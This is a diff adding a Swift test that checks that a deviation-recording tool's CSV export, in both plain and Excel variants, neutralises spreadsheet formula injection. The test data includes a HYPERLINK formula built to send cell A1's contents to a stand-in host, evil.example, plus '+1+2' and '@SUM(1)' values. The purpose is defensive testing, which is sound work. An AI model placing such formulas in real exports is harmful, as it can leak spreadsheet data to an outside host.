@@ -110,6 +110,27 @@ import Testing
         #expect(bad.status == 64)
     }
 
+    @Test func recordedTextArrivesInCSVAsTextNeverAsAFormula() throws {
+        let w = try Self.seeded()
+        let formula = #"=HYPERLINK("http://evil.example/?x="&A1,"Klicka")"#
+        let recorded = try w.ik.run(["record", "deviation", "--control", "SN-2024-LAK", "--deviation", "D-FORMULA",
+                                     "--observed-on", "2024-10-15", "--unit", "+1+2", "--category", "@SUM(1)",
+                                     "--severity", "minor", "--count", "1", "--description", formula],
+                                    environment: ["IK_NOW": "2025-03-01T12:00:00Z"])
+        try recorded.requireSuccess()
+        for excel in [false, true] {
+            let csv = try w.ik.run(["export", "deviations", "--period", "2024", "--plan", "SN-2024", "--format", "csv",
+                                    "--lang", "en"] + (excel ? ["--excel"] : [])).stdout
+            let line = try #require(csv.split(whereSeparator: \.isNewline).first { $0.contains("D-FORMULA") })
+            let separator = excel ? ";" : ","
+            #expect(line.contains(separator + "'+1+2" + separator) && line.contains(separator + "'@SUM(1)" + separator), "\(line)")
+            #expect(line.contains(#""'=HYPERLINK(""http://evil.example/"#), "\(line)")
+            #expect(!line.contains(separator + "=") && !line.contains(separator + "\"="), "\(line)")
+        }
+        let state = try w.ik.run(["state", "--period", "2024", "--plan", "SN-2024", "--format", "csv", "--excel"]).stdout
+        #expect(!state.contains("'"), "figures stay numbers: \(state)")
+    }
+
     @Test func snapshotsGiveTheSameAnswerAsFoldingFromTheStart() throws {
         let w = try Self.seeded()
         let before = try w.ik.run(["state", "--period", "2024", "--as-of-seq", "100", "--format", "json"]).stdout
